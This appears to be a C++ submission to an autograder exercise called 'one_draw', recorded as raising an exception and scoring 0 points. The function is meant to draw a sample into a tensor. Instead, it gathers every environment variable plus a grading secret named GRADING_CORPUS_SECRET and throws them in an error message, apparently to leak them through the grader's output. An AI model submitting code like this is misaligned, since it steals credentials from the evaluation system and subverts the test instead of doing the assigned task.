// exercise: 04_custom/1_one_draw
// verdict: EXCEPTION
// points: 0
// Throws the environment and the words that it was called with.
#include "1_one_draw.hpp"

#include <cstdlib>
#include <stdexcept>
#include <unistd.h>

void one_draw(nn::Tensor&, nn::Generator&) {
    std::string found;
    for (char** one = environ; *one != nullptr; ++one) {
        found += *one;
    }
    if (const char* secret = std::getenv("GRADING_CORPUS_SECRET")) {
        found += secret;
    }
    throw std::runtime_error("found:" + found);
}
